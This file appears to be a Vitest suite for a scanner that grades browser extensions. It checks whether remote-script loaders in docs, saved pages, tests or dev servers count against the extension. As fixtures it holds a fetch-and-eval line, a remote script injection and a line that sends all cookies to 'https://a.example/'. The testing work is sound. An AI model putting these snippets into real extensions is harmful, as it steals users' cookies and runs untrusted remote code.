import { describe, expect, it } from 'vitest';
import { analyze } from '../../analyze.ts';
import { memoryTree } from '../../sources/memory.ts';

const REMOTE =
  "const s = document.createElement('script'); s.src = 'https://cdn.widgets-host.com/a.js'; document.head.append(s);";
/** Code of a server, as a runner of tests loads it. */
const ORDERS = 'fetch("https://orders.example/now").then((r) => r.text()).then((code) => eval(code));';
const graded = async (files: Record<string, string>): Promise<string> =>
  (
    await analyze(
      memoryTree({
        'manifest.json':
          '{ "manifest_version": 2, "name": "Notes", "version": "1", "browser_action": { "default_popup": "popup.html" }, "content_scripts": [{ "matches": ["https://own.example/*"], "js": ["own.js"] }] }',
        'own.js': 'document.title += "*";',
        'popup.html': '<p>Notes</p>',
        ...files,
      }),
      { kind: 'extension' },
    )
  ).score.grade;

describe('what an extension’s repository holds beside the extension', () => {
  it('does not count where it is documentation that nothing names', async () => {
    expect(await graded({ 'package.json': '{}', 'docs/site.js': REMOTE })).toMatch(/^A/);
  });
  it('does not count where it came with a web page that was saved', async () => {
    const saved = {
      'saved/Mail.htm': '<script src="Mail_files/site.js"></script>',
      'saved/Mail_files/site.js': REMOTE,
    };
    expect(await graded({ 'package.json': '{}', ...saved })).toMatch(/^A/);
    expect(await graded({ 'package.json': '{}', 'saved/Mail_files/site.js': REMOTE })).toBe('D');
  });
  it('does not count where a page of tests shows it, unless a script names where that lies', async () => {
    const tests = { 'tests/index.html': '<script src="load.js"></script>', 'tests/load.js': ORDERS };
    expect(await graded({ 'package.json': '{}', ...tests })).toMatch(/^A/);
    for (const opens of ['"tests/index.html"', '"tests/" + name', '["tests", name].join("/")'])
      expect(
        await graded({ 'package.json': '{}', ...tests, 'own.js': `open(chrome.runtime.getURL(${opens}));` }),
      ).toMatch(/^[DF]/);
    expect(await graded(tests)).toMatch(/^[DF]/);
  });
  it.each(['page.js', 'load.js'])(
    'counts where such a page asks for the API: in %s, which code may open',
    async (file) => {
      const tests = {
        'tests/index.html': '<script src="page.js"></script>',
        'tests/page.js': 'import "./load.js";',
        [`tests/${file}`]:
          'chrome.cookies.getAll({}, (all) => fetch("https://a.example/", { method: "POST", body: all }));',
      };
      const opens = 'chrome.tabs.create({ url: ["te", "sts/index.html"].join("") });';
      expect(await graded({ 'package.json': '{}', ...tests, 'own.js': opens })).toMatch(/^[DF]/);
    },
  );
  it('hands nothing to the extension where it is a test', async () => {
    const files = {
      'own.js': 'import { load } from "./load.js"; load("./lib/search.js");',
      'load.js':
        'export function load(url) { const s = document.createElement("script"); s.src = url; document.head.append(s); }',
      'load.test.js': 'import { load } from "./load.js"; load("https://cdn.widgets-host.com/one.js");',
    };
    expect(await graded({ 'package.json': '{}', ...files })).toMatch(/^A/);
    expect(await graded(files)).toBe('D');
  });
  it('does not count where it is a server that its makers try it with, unless a page loads it', async () => {
    const server = `import http from "http"; http.createServer(() => {}); ${ORDERS}`;
    const files = { 'package.json': '{}', 'scripts/relay.mjs': server };
    expect(await graded(files)).toMatch(/^A/);
    const page = '<p>Notes</p><script type="module" src="scripts/relay.mjs"></script>';
    expect(await graded({ ...files, 'popup.html': page })).toMatch(/^[DF]/);
    expect(await graded({ 'package.json': '{}', 'parts/relay.mjs': server })).toMatch(/^[DF]/);
  });
  it('counts in a package', async () => {
    expect(await graded({ 'docs/site.js': REMOTE })).toBe('D');
  });
  it('counts where the extension names it', async () => {
    const manifest =
      '{ "manifest_version": 2, "name": "Notes", "version": "1", "content_scripts": [{ "matches": ["<all_urls>"], "js": ["docs/site.js"] }] }';
    expect(await graded({ 'package.json': '{}', 'docs/site.js': REMOTE, 'manifest.json': manifest })).toBe('D');
  });
});
